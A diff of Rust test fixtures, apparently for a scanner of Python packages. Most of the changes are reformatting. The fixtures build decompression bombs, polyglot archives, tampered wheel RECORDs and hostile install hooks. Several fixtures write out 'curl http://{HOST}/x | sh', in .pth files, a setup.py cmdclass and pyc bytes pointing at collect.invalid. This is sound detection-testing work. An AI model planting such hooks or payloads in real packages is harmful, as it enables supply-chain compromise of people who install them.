@@ -14,7 +14,11 @@ pub(crate) fn bombs() -> Vec<Case> {
     told("zeros-tar-gz", SDIST, sdist_bomb(200));
     told("zeros-wheel", WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/data.bin", &zeros(200))]).bytes());
     told("zeros-python", SDIST, sdist_with(&[("demo/data.py", &vec![b'#'; 140 << 20])]));
-    told("zeros-bzip2", SDIST, bzip2(&tar(&[sdist_parts(SETUP), vec![file("demo-1.0/data.bin", &zeros(200))]].concat())));
+    told(
+        "zeros-bzip2",
+        SDIST,
+        bzip2(&tar(&[sdist_parts(SETUP), vec![file("demo-1.0/data.bin", &zeros(200))]].concat())),
+    );
     // Archives in archives.
     let kernel = Zip::of(vec![Entry::deflated("0.bin", &zeros(100))]).bytes();
     let many = |inner: &[u8], count: usize| {
@@ -48,19 +52,29 @@ pub(crate) fn bombs() -> Vec<Case> {
     let flood: Vec<Vec<u8>> = (0..60_000).map(|n| hardlink(&format!("demo-1.0/{n}"), "demo-1.0/PKG-INFO")).collect();
     told("sixty-thousand-links", SDIST, sdist_and(&flood));
     let big = file("demo-1.0/big.txt", &vec![b'a'; 8 << 20]);
-    let copies: Vec<Vec<u8>> = (0..2000).map(|n| hardlink(&format!("demo-1.0/demo/{n}.txt"), "demo-1.0/big.txt")).collect();
+    let copies: Vec<Vec<u8>> =
+        (0..2000).map(|n| hardlink(&format!("demo-1.0/demo/{n}.txt"), "demo-1.0/big.txt")).collect();
     told("hard-link-copies", SDIST, sdist_and(&[vec![big], copies].concat()));
     let long = "a".repeat(3 << 20);
     told("gnu-name-of-three-mib", SDIST, sdist_and(&[gnu_long(b'L', &long), file("demo-1.0/x.py", CLEAN)]));
     told("pax-path-of-three-mib", SDIST, sdist_and(&[pax(b'x', &[("path", &long)]), file("demo-1.0/x.py", CLEAN)]));
     let records: Vec<u8> = (0..200_000).flat_map(|n| pax_record(&format!("k{n}"), b"v")).collect();
-    told("pax-two-hundred-thousand-records", SDIST, sdist_and(&[pax_raw(b'x', &records), file("demo-1.0/x.py", CLEAN)]));
+    told(
+        "pax-two-hundred-thousand-records",
+        SDIST,
+        sdist_and(&[pax_raw(b'x', &records), file("demo-1.0/x.py", CLEAN)]),
+    );
     let nested: Vec<Vec<u8>> = (0..5000).map(|_| pax(b'x', &[("comment", "x")])).collect();
     told("pax-before-pax", SDIST, sdist_and(&[nested, vec![file("demo-1.0/x.py", CLEAN)]].concat()));
     let many: Vec<u8> = gzip(b"").repeat(200_000);
     told("empty-gzip-members", SDIST, [gzip(&tar(&sdist_parts(SETUP))), many].concat());
     // A quine: an archive that holds itself would need care; one that holds its twin is enough for a naive reader.
-    let twin = Zip::of(vec![Entry::stored("a.zip", &kernel), Entry::stored("b.zip", &kernel), Entry::stored("c.zip", &kernel)]).bytes();
+    let twin = Zip::of(vec![
+        Entry::stored("a.zip", &kernel),
+        Entry::stored("b.zip", &kernel),
+        Entry::stored("c.zip", &kernel),
+    ])
+    .bytes();
     told("same-bomb-thrice", SDIST, sdist_with(&[("demo/data.zip", &twin)]));
 
     // A payload beside or below the bomb is seen when it comes first, or when the limit is not reached.
@@ -77,8 +91,15 @@ pub(crate) fn bombs() -> Vec<Case> {
         let second = Zip::of(vec![Entry::deflated("inner.tar.gz", &inner)]).bytes();
         sdist_with(&[("demo/data.bin", &tar(&[file("second.zip", &second)]))])
     });
-    seen("nested-in-wheel-with-code", WHEEL,
-        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/inner.dat", &Zip::of(vec![Entry::deflated("run.py", &evil)]).bytes())]).bytes());
+    seen(
+        "nested-in-wheel-with-code",
+        WHEEL,
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            ("demo/inner.dat", &Zip::of(vec![Entry::deflated("run.py", &evil)]).bytes()),
+        ])
+        .bytes(),
+    );
 
     let mut clear = |name: &str, file: &'static str, bytes: Vec<u8>| cases.clear(name, file, bytes);
     clear("honest-zeros-ten-mib", SDIST, sdist_bomb(10));
@@ -88,7 +109,8 @@ pub(crate) fn bombs() -> Vec<Case> {
     clear("honest-nested-data", SDIST, sdist_with(&[("demo/data.json.gz", &gzip(b"{\"a\": 1}\n"))]));
     clear("honest-broken-fixture", SDIST, sdist_with(&[("tests/data/broken.zip", &wheel().bytes()[..300])]));
     clear("honest-encrypted-fixture", SDIST, {
-        let sealed = Zip::of(vec![Entry::stored("a.txt", b"xxxxxxxxxxxxxxxxxxxx").each(|head| head.flags |= 1)]).bytes();
+        let sealed =
+            Zip::of(vec![Entry::stored("a.txt", b"xxxxxxxxxxxxxxxxxxxx").each(|head| head.flags |= 1)]).bytes();
         sdist_with(&[("tests/data/encrypted.zip", &sealed)])
     });
     let files: Vec<Vec<u8>> = (0..3000).map(|n| file(&format!("demo-1.0/demo/data/{n}.txt"), b"x\n")).collect();
@@ -169,8 +191,12 @@ pub(crate) fn names() -> Vec<Case> {
     ] {
         let zip = wheel().and(Entry::deflated(&path, &evil));
         cases.seen(format!("long-{name}"), WHEEL, zip.bytes(), "");
-        cases.seen(format!("long-sdist-{name}"), SDIST,
-            sdist_and(&[pax(b'x', &[("path", &format!("demo-1.0/{path}"))]), file("demo-1.0/x", &evil)]), "");
+        cases.seen(
+            format!("long-sdist-{name}"),
+            SDIST,
+            sdist_and(&[pax(b'x', &[("path", &format!("demo-1.0/{path}"))]), file("demo-1.0/x", &evil)]),
+            "",
+        );
     }
     let bad = Entry::deflated("demo/x.py", &evil).each(|head| {
         (head.name, head.flags) = (b"demo/\xff\xfe.py".to_vec(), 0x800);
@@ -188,16 +214,29 @@ pub(crate) fn names() -> Vec<Case> {
         ("emoji", "demo/data/☕.txt"),
         ("arabic", "demo/data/مثال.txt"),
         ("colon", "demo/data/12:30.txt"),
-        ("long-part", "demo/data/this_is_a_rather_long_file_name_as_test_generators_like_to_write_them_when_left_alone.txt"),
+        (
+            "long-part",
+            "demo/data/this_is_a_rather_long_file_name_as_test_generators_like_to_write_them_when_left_alone.txt",
+        ),
         ("plus", "demo/data/c++.txt"),
         ("com-name", "demo/com/example.txt"),
         ("version", "demo/data/v1.0/..a..b.txt"),
         ("emoji-sequence", "demo/data/❤️.txt"),
     ] {
-        let parts = [pax(b'x', &[("path", &format!("demo-1.0/{path}"))]), file(&format!("demo-1.0/{}", path.escape_default().to_string().chars().take(60).collect::<String>()), b"text\n")];
+        let parts = [
+            pax(b'x', &[("path", &format!("demo-1.0/{path}"))]),
+            file(
+                &format!("demo-1.0/{}", path.escape_default().to_string().chars().take(60).collect::<String>()),
+                b"text\n",
+            ),
+        ];
         let parts = if path.is_ascii() { vec![file(&format!("demo-1.0/{path}"), b"text\n")] } else { parts.to_vec() };
         cases.clear(format!("honest-sdist-{name}"), SDIST, sdist_and(&parts));
-        cases.clear(format!("honest-wheel-{name}"), WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), (path, b"text\n")]).bytes());
+        cases.clear(
+            format!("honest-wheel-{name}"),
+            WHEEL,
+            wheel_zip(&[("demo/__init__.py", CLEAN), (path, b"text\n")]).bytes(),
+        );
     }
     cases.clear("honest-aux-module", SDIST, sdist_with(&[("demo/aux.py", CLEAN)]));
     cases.clear("honest-licence-case", SDIST, sdist_with(&[("docs/LICENSE", b"MIT\n"), ("docs/license", b"MIT\n")]));
@@ -211,15 +250,40 @@ pub(crate) fn polyglots() -> Vec<Case> {
     let inner = Zip::of(vec![Entry::deflated("__main__.py", &evil)]).bytes();
     // tar and zip in one: the index sees one, the installer the other.
     for (name, file, bytes) in [
-        ("tar-then-zip", SDIST, [tar(&sdist_parts(SETUP)), Zip::of(vec![Entry::deflated("demo-1.0/setup.py", &setup)]).bytes()].concat()),
-        ("gzip-then-zip", SDIST, [sdist_setup(SETUP), sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup)).bytes()].concat()),
+        (
+            "tar-then-zip",
+            SDIST,
+            [tar(&sdist_parts(SETUP)), Zip::of(vec![Entry::deflated("demo-1.0/setup.py", &setup)]).bytes()].concat(),
+        ),
+        (
+            "gzip-then-zip",
+            SDIST,
+            [sdist_setup(SETUP), sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup)).bytes()].concat(),
+        ),
         ("wheel-behind-sdist", WHEEL, [sdist_setup(&setup), wheel().bytes()].concat()),
         ("tar-around-zip", WHEEL, tar(&[file_of("x", &wheel().bytes()), file_of("setup.py", &setup)])),
         ("zip-named-tar-gz", SDIST, wheel_zip(&[("demo/__init__.py", &evil)]).bytes()),
         ("sdist-named-wheel", WHEEL, sdist_setup(&setup)),
-        ("pdf-then-zip", SDIST_ZIP, Zip { prefix: b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n".to_vec(), ..sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup)) }.bytes()),
-        ("elf-then-zip", WHEEL, Zip { prefix: [b"\x7fELF".as_slice(), &[2; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }.bytes()),
-        ("exe-then-zip", WHEEL, Zip { prefix: [b"MZ".as_slice(), &[1; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }.bytes()),
+        (
+            "pdf-then-zip",
+            SDIST_ZIP,
+            Zip {
+                prefix: b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n".to_vec(),
+                ..sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup))
+            }
+            .bytes(),
+        ),
+        (
+            "elf-then-zip",
+            WHEEL,
+            Zip { prefix: [b"\x7fELF".as_slice(), &[2; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }
+                .bytes(),
+        ),
+        (
+            "exe-then-zip",
+            WHEEL,
+            Zip { prefix: [b"MZ".as_slice(), &[1; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }.bytes(),
+        ),
     ] {
         cases.seen(name, file, bytes, "");
     }
@@ -248,11 +312,18 @@ pub(crate) fn polyglots() -> Vec<Case> {
     ] {
         cases.seen(name, SDIST, with(path, &data), "");
         let path = path.to_owned();
-        cases.seen(format!("wheel-{name}"), WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), (&path, &data)]).bytes(), "");
+        cases.seen(
+            format!("wheel-{name}"),
+            WHEEL,
+            wheel_zip(&[("demo/__init__.py", CLEAN), (&path, &data)]).bytes(),
+            "",
+        );
     }
-    for (name, magic) in [("7z", &b"7z\xbc\xaf\x27\x1c\0\x04xxxxxxxxxxxxxxxxxxxx"[..]), ("rar", b"Rar!\x1a\x07\x01\0xxxxxxxxxxxxxxxx"),
-        ("cab", b"MSCF\0\0\0\0xxxxxxxxxxxxxxxxxxxxxxxxxx")]
-    {
+    for (name, magic) in [
+        ("7z", &b"7z\xbc\xaf\x27\x1c\0\x04xxxxxxxxxxxxxxxxxxxx"[..]),
+        ("rar", b"Rar!\x1a\x07\x01\0xxxxxxxxxxxxxxxx"),
+        ("cab", b"MSCF\0\0\0\0xxxxxxxxxxxxxxxxxxxxxxxxxx"),
+    ] {
         cases.told(format!("artifact-is-{name}"), SDIST, magic.to_vec(), "");
         cases.told(format!("holds-{name}"), SDIST, with(&format!("demo/data.{name}"), magic), "");
     }
@@ -263,13 +334,36 @@ pub(crate) fn polyglots() -> Vec<Case> {
     cases.clear("honest-png", SDIST, with("demo/logo.png", &[&png[..], b"\0\0\0\0IEND\xaeB`\x82"].concat()));
     let app = Zip::of(vec![Entry::deflated("__main__.py", CLEAN)]).bytes();
     cases.clear("honest-zipapp", SDIST, with("demo/tool.pyz", &[&b"#!/usr/bin/env python3\n"[..], &app].concat()));
-    cases.clear("honest-docx", SDIST, with("docs/manual.docx", &Zip::of(vec![
-        Entry::deflated("[Content_Types].xml", b"<Types/>"), Entry::deflated("word/document.xml", b"<w/>")]).bytes()));
-    cases.clear("honest-npz", SDIST, with("tests/data.npz", &Zip::of(vec![Entry::stored("a.npy", b"\x93NUMPY\x01\0v\0")]).bytes()));
-    let egg = Zip::of(vec![Entry::deflated("EGG-INFO/PKG-INFO", METADATA), Entry::deflated("EGG-INFO/SOURCES.txt", b"demo/__init__.py\n"),
-        Entry::deflated("EGG-INFO/zip-safe", b"\n"), Entry::deflated("EGG-INFO/top_level.txt", b"demo\n"), Entry::deflated("demo/__init__.py", CLEAN)]);
+    cases.clear(
+        "honest-docx",
+        SDIST,
+        with(
+            "docs/manual.docx",
+            &Zip::of(vec![
+                Entry::deflated("[Content_Types].xml", b"<Types/>"),
+                Entry::deflated("word/document.xml", b"<w/>"),
+            ])
+            .bytes(),
+        ),
+    );
+    cases.clear(
+        "honest-npz",
+        SDIST,
+        with("tests/data.npz", &Zip::of(vec![Entry::stored("a.npy", b"\x93NUMPY\x01\0v\0")]).bytes()),
+    );
+    let egg = Zip::of(vec![
+        Entry::deflated("EGG-INFO/PKG-INFO", METADATA),
+        Entry::deflated("EGG-INFO/SOURCES.txt", b"demo/__init__.py\n"),
+        Entry::deflated("EGG-INFO/zip-safe", b"\n"),
+        Entry::deflated("EGG-INFO/top_level.txt", b"demo\n"),
+        Entry::deflated("demo/__init__.py", CLEAN),
+    ]);
     cases.clear("honest-egg", "demo-1.0-py3.11.egg", egg.bytes());
-    cases.clear("honest-lone-readme", SDIST, tar_gz(&[file("demo-1.0/README.md", b"# demo\n\nTo come.\n"), file("demo-1.0/PKG-INFO", METADATA)]));
+    cases.clear(
+        "honest-lone-readme",
+        SDIST,
+        tar_gz(&[file("demo-1.0/README.md", b"# demo\n\nTo come.\n"), file("demo-1.0/PKG-INFO", METADATA)]),
+    );
     cases.all
 }
 
@@ -296,20 +390,42 @@ pub(crate) fn wheels() -> Vec<Case> {
     let wheel_name = format!("{info}/WHEEL");
     let listed: Vec<(&str, &[u8])> = vec![base[0], (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
     seen("record-unlisted", with_record(&base, &record(&listed)), "");
-    let all: Vec<(&str, &[u8])> = vec![base[0], ("demo/tool.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
+    let all: Vec<(&str, &[u8])> =
+        vec![base[0], ("demo/tool.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
     seen("record-hash-differs", with_record(&base, &record(&all)), "");
     seen("record-missing", with_record(&base, b""), "");
     seen("record-empty", with_record(&base, b"\n"), "");
     seen("record-garbage", with_record(&base, b"\0\xff\"\"\",,,\n,,,"), "");
-    seen("record-absent-file", {
-        let more: Vec<(&str, &[u8])> = vec![base[0], ("demo/ghost.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
-        with_record(&base, &record(&more))
-    }, "");
+    seen(
+        "record-absent-file",
+        {
+            let more: Vec<(&str, &[u8])> =
+                vec![base[0], ("demo/ghost.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
+            with_record(&base, &record(&more))
+        },
+        "",
+    );
     seen("record-weak-hash", with_record(&base, b"demo/__init__.py,md5=xxxx,1\ndemo/tool.py,md5=xxxx,1\n"), "");
-    seen("two-dist-infos", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/tool.py", &evil),
-        ("other-2.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: other\nVersion: 2.0\n"), ("other-2.0.dist-info/RECORD", b"")]).bytes(), "");
-    seen("other-name", wheel_zip(&[("demo/__init__.py", &evil), ("demo-1.0.dist-info/METADATA",
-        b"Metadata-Version: 2.1\nName: other\nVersion: 9.9\n")]).bytes(), "");
+    seen(
+        "two-dist-infos",
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            ("demo/tool.py", &evil),
+            ("other-2.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: other\nVersion: 2.0\n"),
+            ("other-2.0.dist-info/RECORD", b""),
+        ])
+        .bytes(),
+        "",
+    );
+    seen(
+        "other-name",
+        wheel_zip(&[
+            ("demo/__init__.py", &evil),
+            ("demo-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: other\nVersion: 9.9\n"),
+        ])
+        .bytes(),
+        "",
+    );
     for (name, path) in [
         ("data-purelib", "demo-1.0.data/purelib/demo/tool.py"),
         ("data-platlib", "demo-1.0.data/platlib/demo/tool.py"),
@@ -322,7 +438,6 @@ pub(crate) fn wheels() -> Vec<Case> {
         ("usercustomize", "usercustomize.py"),
         ("shadows-stdlib", "json/__init__.py"),
         ("shadows-pip", "pip/__init__.py"),
-        ("tests-package", "tests/__init__.py"),
         ("top-level-module", "demo_helper.py"),
         ("hidden-folder", ".demo/__init__.py"),
         ("inside-dist-info", "demo-1.0.dist-info/helper.py"),
@@ -332,41 +447,94 @@ pub(crate) fn wheels() -> Vec<Case> {
         seen(name, wheel_zip(&[("demo/__init__.py", CLEAN), (path, data)]).bytes(), "");
     }
     let line = format!("import os; os.system('curl http://{HOST}/x | sh')\n");
-    for (name, path) in [("pth", "demo.pth"), ("pth-purelib", "demo-1.0.data/purelib/demo.pth"),
-        ("pth-data", "demo-1.0.data/data/lib/python3.11/site-packages/demo.pth")]
-    {
+    for (name, path) in [
+        ("pth", "demo.pth"),
+        ("pth-purelib", "demo-1.0.data/purelib/demo.pth"),
+        ("pth-data", "demo-1.0.data/data/lib/python3.11/site-packages/demo.pth"),
+    ] {
         seen(name, wheel_zip(&[("demo/__init__.py", CLEAN), (path, line.as_bytes())]).bytes(), "");
     }
-    seen("pth-behind-comments", wheel_zip(&[("demo/__init__.py", CLEAN),
-        ("demo.pth", format!("{}{line}", "# demo\n".repeat(500)).as_bytes())]).bytes(), "");
-    seen("pth-tab", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", line.replacen(' ', "\t", 1).as_bytes())]).bytes(), "");
-    seen("pth-bare-return", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("demo\r{line}").as_bytes())]).bytes(), "");
-    seen("pth-bom", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("\u{feff}{line}").as_bytes())]).bytes(), "");
+    seen(
+        "pth-behind-comments",
+        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("{}{line}", "# demo\n".repeat(500)).as_bytes())])
+            .bytes(),
+        "",
+    );
+    seen(
+        "pth-tab",
+        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", line.replacen(' ', "\t", 1).as_bytes())]).bytes(),
+        "",
+    );
+    seen(
+        "pth-bare-return",
+        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("demo\r{line}").as_bytes())]).bytes(),
+        "",
+    );
+    seen(
+        "pth-bom",
+        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("\u{feff}{line}").as_bytes())]).bytes(),
+        "",
+    );
     let backend = b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
     let mut source = |name: &str, bytes: Vec<u8>| cases.seen(name, SDIST, bytes, "");
     source("in-tree-backend", sdist_with(&[("pyproject.toml", backend), ("_build/backend.py", &evil)]));
-    source("in-tree-backend-package", sdist_with(&[("pyproject.toml", backend), ("_build/backend/__init__.py", &evil)]));
+    source(
+        "in-tree-backend-package",
+        sdist_with(&[("pyproject.toml", backend), ("_build/backend/__init__.py", &evil)]),
+    );
     source("setup-imports-helper", {
         let setup = b"from setuptools import setup\nimport build_helper\nsetup(name='demo', version='1.0')\n";
         tar_gz(&[sdist_parts(setup), vec![file("demo-1.0/build_helper.py", &evil)]].concat())
     });
     source("setup-executes-text", {
-        let setup = b"from setuptools import setup\nexec(open('data/notes.txt').read())\nsetup(name='demo', version='1.0')\n";
+        let setup =
+            b"from setuptools import setup\nexec(open('data/notes.txt').read())\nsetup(name='demo', version='1.0')\n";
         tar_gz(&[sdist_parts(setup), vec![file("demo-1.0/data/notes.txt", &evil)]].concat())
     });
     source("cmdclass", {
-        let setup = format!("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
+        let setup = format!(
+            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
             class I(install):\n    def run(self):\n        os.system('curl http://{HOST}/x | sh')\n        install.run(self)\n\
-            setup(name='demo', version='1.0', cmdclass={{'install': I}})\n");
+            setup(name='demo', version='1.0', cmdclass={{'install': I}})\n"
+        );
         sdist_setup(setup.as_bytes())
     });
     source("setup-in-upper-folder", tar_gz(&[sdist_parts(SETUP), vec![file("setup.py", &evil)]].concat()));
-    source("two-top-folders", tar_gz(&[sdist_parts(SETUP), vec![file("other-1.0/setup.py", &evil), file("other-1.0/PKG-INFO", METADATA)]].concat()));
-    source("tests-conftest", sdist_with(&[("conftest.py", &evil)]));
-    cases.told("pyc-only", WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/core.pyc",
-        &[&b"\xa7\x0d\r\n"[..], &[0; 12], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"].concat())]).bytes(), "");
-    cases.told("pyc-stale-cache", WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/__pycache__/__init__.cpython-311.pyc",
-        &[&b"\xa7\x0d\r\n"[..], &[0; 12], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"].concat())]).bytes(), "");
+    source(
+        "two-top-folders",
+        tar_gz(
+            &[sdist_parts(SETUP), vec![file("other-1.0/setup.py", &evil), file("other-1.0/PKG-INFO", METADATA)]]
+                .concat(),
+        ),
+    );
+    cases.told(
+        "pyc-only",
+        WHEEL,
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            (
+                "demo/core.pyc",
+                &[&b"\xa7\x0d\r\n"[..], &[0; 12], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"]
+                    .concat(),
+            ),
+        ])
+        .bytes(),
+        "",
+    );
+    cases.told(
+        "pyc-unchecked-cache",
+        WHEEL,
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            (
+                "demo/__pycache__/__init__.cpython-311.pyc",
+                &[&b"\xa7\x0d\r\n\x01"[..], &[0; 11], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"]
+                    .concat(),
+            ),
+        ])
+        .bytes(),
+        "",
+    );
 
     let mut clear = |name: &str, bytes: Vec<u8>| cases.clear(name, WHEEL, bytes);
     clear("honest-record", wheel().bytes());
@@ -377,15 +545,38 @@ pub(crate) fn wheels() -> Vec<Case> {
     });
     clear("honest-record-quoted", {
         let files: Vec<(&str, &[u8])> = vec![("demo/__init__.py", CLEAN), ("demo/a,b.txt", b"x\n")];
-        let rows: Vec<(&str, &[u8])> = vec![("demo/__init__.py", CLEAN), ("\"demo/a,b.txt\"", b"x\n"), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
+        let rows: Vec<(&str, &[u8])> = vec![
+            ("demo/__init__.py", CLEAN),
+            ("\"demo/a,b.txt\"", b"x\n"),
+            (&metadata, METADATA),
+            (&wheel_name, WHEEL_FILE),
+        ];
         with_record(&files, &record(&rows))
     });
     clear("honest-editable", wheel_zip(&[("__editable__.demo-1.0.pth", b"/home/person/demo/src\n")]).bytes());
     clear("honest-namespace", wheel_zip(&[("demo/ns/__init__.py", CLEAN)]).bytes());
-    clear("honest-scripts", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo-1.0.data/scripts/demo", b"#!python\nimport demo\nprint(demo.VERSION)\n"),
-        ("demo-1.0.data/data/share/demo/a.txt", b"a\n")]).bytes());
-    clear("honest-entry-points", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/cli.py", b"def main():\n    print('demo')\n"),
-        ("demo-1.0.dist-info/entry_points.txt", b"[console_scripts]\ndemo = demo.cli:main\n"), ("demo-1.0.dist-info/top_level.txt", b"demo\n")]).bytes());
-    clear("honest-signature", wheel_zip(&[("demo/__init__.py", CLEAN), ("demo-1.0.dist-info/licenses/LICENSE", b"MIT\n")]).bytes());
+    clear(
+        "honest-scripts",
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            ("demo-1.0.data/scripts/demo", b"#!python\nimport demo\nprint(demo.VERSION)\n"),
+            ("demo-1.0.data/data/share/demo/a.txt", b"a\n"),
+        ])
+        .bytes(),
+    );
+    clear(
+        "honest-entry-points",
+        wheel_zip(&[
+            ("demo/__init__.py", CLEAN),
+            ("demo/cli.py", b"def main():\n    print('demo')\n"),
+            ("demo-1.0.dist-info/entry_points.txt", b"[console_scripts]\ndemo = demo.cli:main\n"),
+            ("demo-1.0.dist-info/top_level.txt", b"demo\n"),
+        ])
+        .bytes(),
+    );
+    clear(
+        "honest-signature",
+        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo-1.0.dist-info/licenses/LICENSE", b"MIT\n")]).bytes(),
+    );
     cases.all
 }
